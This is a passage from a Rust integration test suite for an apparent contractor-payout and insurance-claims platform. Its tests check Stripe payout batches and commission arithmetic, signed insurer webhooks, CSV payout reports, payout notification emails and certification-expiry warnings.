                i.extend(e);
            }
            assert_eq!(app.ok(Some(insurer), update, json!({"i": i})).await["updateClaim"]["status"], status);
        }

        // The contractor onboards with Stripe; the batch pays it.
        let me = Contractor { id: contractor_id.clone(), email, token: token.clone() };
        let acct = onboard(&app, &me).await;
        let b = app.ok(Some(&admin), BATCH, json!({})).await["runPayoutBatch"].clone();
        let p = payout(&app, &admin, &job).await;
        assert_eq!(p["status"], "PAID", "{p} {b}");
        assert_eq!(cents(&p["grossCents"]), 1_234_567);
        assert_eq!(p["commissionBps"], 1500, "the network default");
        let commission = cents(&p["commissionCents"]);
        let paid = cents(&p["payoutCents"]);
        assert_eq!(commission, 185_185, "15% of $12,345.67 rounded half up");
        assert_eq!(commission + paid, 1_234_567);
        let t = stripe.transfer(p["transferId"].as_str().unwrap()).unwrap();
        assert_eq!((t["amount"].as_i64(), t["destination"].as_str()), (Some(paid), Some(acct.as_str())));
        assert_eq!(stripe.transfers().iter().filter(|t| t["metadata"]["payout_id"] == p["id"]).count(), 1);

        // The insurer's receiver got every event of its lead, each signed.
        let got = receiver
            .until(|g| {
                let t = types(g);
                t.iter().filter(|t| *t == "job.status_changed").count() >= 6
                    && t.iter().filter(|t| t.starts_with("claim.")).count() >= 4
            })
            .await;
        for (headers, body) in &got {
            assert!(verify(&secret, headers, body), "signed: {body}");
        }
        let mut seen: Vec<String> = got
            .iter()
            .map(|(_, b)| serde_json::from_str::<Value>(b).unwrap())
            .filter(|v| v["data"]["leadId"] == json!(lead))
            .map(|v| format!("{}:{}", v["type"].as_str().unwrap(), v["data"]["status"].as_str().unwrap_or("")))
            .collect();
        seen.sort();
        for expected in [
            "lead.status_changed:NEW",
            "lead.status_changed:OFFERING",
            "lead.status_changed:ASSIGNED",
            "job.status_changed:CONTACTED",
            "job.status_changed:INSPECTED",
            "job.status_changed:QUOTED",
            "job.status_changed:APPROVED",
            "job.status_changed:IN_PROGRESS",
            "job.status_changed:COMPLETED",
            "claim.lodged:LODGED",
            "claim.updated:ASSESSING",
            "claim.updated:APPROVED",
            "claim.updated:SETTLED",
        ] {
            assert!(seen.contains(&expected.to_string()), "missing {expected} in {seen:?}");
        }

        // The admin's CSV, to the cent.
        let csv = app
            .http
            .get(format!("{}/reports/payouts.csv?status=PAID", app.base))
            .bearer_auth(&admin)
            .send()
            .await
            .unwrap();
        assert_eq!(csv.status().as_u16(), 200);
        let csv = csv.text().await.unwrap();
        let row = csv.lines().find(|l| l.starts_with(p["id"].as_str().unwrap())).unwrap_or_else(|| panic!("{csv}"));
        assert!(row.contains(",PAID,12345.67,1500,1851.85,10493.82,"), "{row}");
        assert!(csv.lines().last().unwrap().starts_with("TOTAL,"));
    }
);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_server_runs_payout_batches_on_its_schedule() {
    let stripe = FakeStripe::start().await;
    let app = TestApp::spawn_with(Backend::Sqlite, with_stripe(&stripe).env("PAYOUT_BATCH_INTERVAL_SECS", "1")).await;
    let w = world(&app, "scheduled").await;
    onboard(&app, &w.c).await;
    let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 64_000).await;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(15);
    while payout(&app, &w.admin, &job).await["status"] != "PAID" {
        assert!(tokio::time::Instant::now() < deadline, "the scheduled batch did not pay");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let batches = app.ok(Some(&w.admin), "{ payoutBatches { trigger startedBy paid } }", json!({})).await;
    let paid_by = batches["payoutBatches"].as_array().unwrap().iter().find(|b| b["paid"] == 1).cloned().unwrap();
    assert_eq!(paid_by["trigger"], "SCHEDULE");
    assert_eq!(paid_by["startedBy"], "system");
    assert_eq!(stripe.transfers().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_contractor_hears_its_payout_was_sent_and_of_a_certification_about_to_expire() {
    use nrp_tests::notify::*;
    let stripe = FakeStripe::start().await;
    let mut smtp = SmtpSink::start(0).await;
    let opts = with_stripe(&stripe).env("SMTP_URL", &smtp.url()).env("EMAIL_FROM", "NRP <alerts@nrp.example>");
    let app = TestApp::spawn_with(Backend::Postgres, opts).await;
    let w = world(&app, "paidmail").await;
    app.ok(Some(&w.c.token), "mutation{ requestContactVerification(channel: EMAIL) }", json!({})).await;
    let subject = smtp.next().await.parsed().subject().unwrap().to_string();
    let code: String = subject.chars().filter(char::is_ascii_digit).collect();
    app.ok(
        Some(&w.c.token),
        "mutation($c:String!){ confirmContactVerification(channel: EMAIL, code: $c){ emailVerified } }",
        json!({"c": code}),
    )
    .await;
    onboard(&app, &w.c).await;
    let (_, job) = completed_job(&app, &w.admin, &w.key, &w.c, 123_456).await;
    let b = app.ok(Some(&w.admin), BATCH, json!({})).await["runPayoutBatch"].clone();
    assert_eq!(b["paid"], 1, "{b}");
    let p = payout(&app, &w.admin, &job).await;
    let amount = cents(&p["payoutCents"]);
    // The customer has an email too: skip the customer's messages to reach the payout's.
    let mut got = None;
    for _ in 0..12 {
        let mail = smtp.next().await;
        if mail.to == vec![w.c.email.clone()] && mail.parsed().subject().is_some_and(|s| s.starts_with("Payout sent")) {
            got = Some(mail);
            break;
        }
    }
    let mail = got.expect("the contractor's payout email");
    let parsed = mail.parsed();
    let subject = parsed.subject().unwrap().to_string();
    let dollars = format!("{:02}", amount % 100);
    assert!(subject.starts_with("Payout sent: $") && subject.ends_with(&dollars), "{subject} for {amount} cents");
    let text = parsed.body_text(0).unwrap().to_string();
    assert!(text.contains("to your bank account") && text.contains("/payouts"), "{text}");
    // Run again: paid once, told once.
    app.ok(Some(&w.admin), BATCH, json!({})).await;
    let rows = notification_log(&app, &w.admin, json!({"template": "payout.sent"})).await;
    assert_eq!(rows.len(), 1, "{rows:#?}");

    // A certification expiring in ten days on the company's clock: one warning, however often
    // the sweep runs.
    let add = "mutation($id:ID!,$input:CertificationInput!){ addCertification(contractorId:$id, input:$input){ id } }";
    let in_ten = (chrono::Utc::now().with_timezone(&chrono_tz::Australia::Sydney).date_naive()
        + chrono::Duration::days(10))
    .to_string();
    app.ok(
        Some(&w.c.token),
        add,
        json!({"id": w.c.id, "input": {"kind": "IICRC WRT", "number": "W-77", "issuer": "IICRC", "expiresOn": in_ten}}),
    )
    .await;
    let later = (chrono::Utc::now().date_naive() + chrono::Duration::days(90)).to_string();
    app.ok(
        Some(&w.c.token),
        add,
        json!({"id": w.c.id, "input": {"kind": "Asbestos", "number": "A-1", "issuer": "SafeWork", "expiresOn": later}}),
    )
    .await;
    let n = nrp_server::services::notifications::staff::certificates_expiring(&app.ctx).await.unwrap();
    assert_eq!(n, 1, "only the one within 30 days");
    assert_eq!(nrp_server::services::notifications::staff::certificates_expiring(&app.ctx).await.unwrap(), 0, "once");
    // (Mail of the job's earlier steps may still be on its way: find the warning among it.)
    let mut warning = None;
    for _ in 0..12 {
        let mail = smtp.next().await;
        if mail.parsed().subject().is_some_and(|s| s.starts_with("Your IICRC WRT expires")) {
            warning = Some(mail);
            break;
        }
    }
    let mail = warning.expect("the certification warning");
    assert_eq!(mail.to, vec![w.c.email.clone()]);
    let body = mail.parsed().body_text(0).unwrap().to_string();
    assert!(body.contains("(10 days)"), "{body}");
}
